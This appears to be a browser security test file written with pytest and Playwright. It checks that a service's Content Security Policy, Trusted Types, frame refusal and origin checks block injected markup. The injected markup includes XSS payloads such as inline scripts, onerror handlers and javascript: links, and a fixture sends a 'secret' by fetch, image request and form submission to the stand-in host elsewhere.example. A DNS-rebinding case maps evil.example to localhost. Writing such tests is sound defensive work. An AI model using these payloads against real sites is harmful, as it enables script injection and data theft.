"""What the service's own pages let nobody do, whatever gets into them."""

from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Route, async_playwright

from service.web import files, pages
from tests.browser.conftest import ARGUMENTS, Visit
from tests.harness import Server

INJECTED = """
    <script>window.ran = 'a script in the page'</script>
    <img src="data:image/png,broken" onerror="window.ran = 'a handler in the page'">
    <a id="link" href="javascript:void (window.ran = 'a link')">link</a>
    <style>body { color: red }</style><p id="styled" style="color: red">red</p>
    <base href="https://elsewhere.example/">
    <form id="form" action="https://elsewhere.example/"><input name="key" value="secret"></form>
    <script src="https://elsewhere.example/script.js"></script>
    <link rel="stylesheet" href="https://elsewhere.example/style.css">
    <iframe src="https://elsewhere.example/frame"></iframe>
"""
BLOCKED = {
    "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "connect-src",
    "frame-src", "base-uri", "form-action",
}  # fmt: skip

TELL = """
    window.blocked = []
    addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.effectiveDirective))
"""
MISBEHAVE = """async () => {
    document.querySelector('#link').click()
    document.querySelector('#form').submit()
    new Image().src = 'https://elsewhere.example/?secret'
    await fetch('https://elsewhere.example/?secret').catch(() => {})
}"""
SINKS = """export default [
    () => { document.body.innerHTML = '<b>bold</b>' },
    () => { document.createElement('script').src = '/client/index.js' },
    () => { document.createElement('iframe').srcdoc = '<b>bold</b>' },
    () => { document.createElement('p').setAttribute('onclick', 'window.ran = 1') },
    () => { new DOMParser().parseFromString('<b>bold</b>', 'text/html') },
    () => { setTimeout('window.ran = 1') },
    () => { (0, eval)('window.ran = 1') },
].map((sink) => { try { sink(); return 'done' } catch (error) { return error.name } })"""
"""A module of the page's own, because what a debugger evaluates may do more."""


@pytest.fixture
async def infested(start: Callable[..., Awaitable[Server]], monkeypatch: pytest.MonkeyPatch) -> Server:
    """A service whose pages have in them what somebody else wrote.

    Not by Playwright: a document that it makes has no address, and may open no socket to this machine.
    """

    def read_worse(path: Path, **filled: str) -> files.File:
        file = files.read(path, **filled)
        return file._replace(body=file.body.replace(b"</body>", INJECTED.encode() + b"</body>"))

    monkeypatch.setattr(pages, "read", read_worse)
    return await start()


@pytest.mark.parametrize("path", ["/demo", "/admin"])
async def test_what_gets_into_a_page_does_nothing(
    infested: Server, visit: Visit, complaints: list[str], path: str
) -> None:
    url = infested.url + path
    page = await visit(f"{infested.url}/healthz")
    await page.add_init_script(TELL)
    reached: list[str] = []

    async def answer_elsewhere(route: Route) -> None:
        reached.append(route.request.url)
        await route.fulfill(status=204)

    await page.route("https://elsewhere.example/**", answer_elsewhere)
    await page.goto(url)
    await page.evaluate(MISBEHAVE)
    await page.wait_for_function(
        "(all) => all.every((each) => window.blocked.includes(each))", arg=sorted(BLOCKED)
    )
    assert await page.evaluate("window.ran") is None
    colour = await page.evaluate("getComputedStyle(document.querySelector('#styled')).color")
    assert colour != "rgb(255, 0, 0)"
    assert await page.evaluate("document.baseURI") == page.url == url
    assert reached == []
    assert complaints
    assert all("Content Security Policy" in each or "Refused to" in each for each in complaints), complaints
    complaints.clear()


@pytest.mark.parametrize("path", ["/demo", "/admin"])
async def test_no_text_becomes_markup_or_code(
    server: Server, visit: Visit, complaints: list[str], path: str
) -> None:
    page = await visit(server.url + path)
    module = {"body": SINKS, "content_type": "text/javascript"}
    await page.route("**/sinks.js", lambda route: route.fulfill(**module))
    outcomes = await page.evaluate("import('/sinks.js').then((module) => module.default)")
    assert outcomes == ["TypeError"] * 6 + ["EvalError"]
    assert await page.evaluate("window.ran") is None
    complaints.clear()


@pytest.mark.parametrize("path", ["/demo", "/admin"])
async def test_nobody_can_put_a_page_into_a_frame(
    server: Server, visit: Visit, complaints: list[str], path: str
) -> None:
    page = await visit(f"{server.url}/healthz")
    frame: Any = await page.evaluate_handle(
        """(url) => new Promise((done) => {
            const frame = document.createElement('iframe')
            frame.src = url
            frame.onload = () => done(frame)
            document.body.append(frame)
        })""",
        server.url + path,
    )
    content = await frame.as_element().content_frame()
    assert content.url.startswith("chrome-error:")
    assert len(complaints) == 1
    assert "frame" in complaints.pop()


GET_TOKEN = """async () => {
    const answer = await fetch('/demo/token', { method: 'POST', body: JSON.stringify({ user: 'alice' }) })
    return answer.status
}"""


async def test_a_name_that_was_made_to_lead_here_gets_no_token(server: Server) -> None:
    """What a page of another site can do is to have its own name resolved to this machine."""
    rules = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{server.port}"
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path="/usr/bin/chromium", args=[*ARGUMENTS, rules]
        )
        page = await browser.new_page()
        got = {}
        for origin in (server.url, f"http://localhost:{server.port}", "http://evil.example"):
            await page.goto(f"{origin}/healthz")
            got[origin] = await page.evaluate(GET_TOKEN)
        await browser.close()
    assert list(got.values()) == [201, 201, 403], got
